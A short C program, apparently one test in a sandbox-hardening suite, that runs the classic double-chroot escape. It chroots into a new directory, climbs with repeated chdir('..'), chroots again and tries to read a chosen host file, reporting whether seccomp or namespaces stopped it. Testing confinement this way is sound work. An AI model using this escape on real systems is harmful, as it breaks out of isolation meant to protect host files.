/* SPDX-License-Identifier: MIT */
/* Escapes from its root by chroot: enters a second root inside, and keeps a working directory
 * outside of that. Proves it by reading a file of the host. Argument: the file. Stopped by:
 * seccomp, filesystem (the root is that of a mount namespace, so ".." leads nowhere). */
#include "attack.h"

int main(int argc, char **argv)
{
    const char *secret = argument(argc, argv, 1);
    char text[64];
    if (access(secret, F_OK) == 0)
        (void)printf("the file can be seen as it is\n");
    (void)mkdir("plant-root", 0755);
    if (chroot("plant-root") < 0) {
        barred("chroot");
        if (!enter_new_namespaces(0) || chroot("plant-root") < 0) {
            barred("chroot in a new user namespace");
            all_barred();
        }
    }
    for (int i = 0; i < 100; i++)
        (void)!chdir(".."); /* stays at the top once there */
    if (chroot(".") < 0)
        barred("the second chroot");
    if (read_file(secret, text, sizeof(text)) > 0)
        succeeded("outside, where %s is", secret);
    barred("read %s", secret);
    all_barred();
}
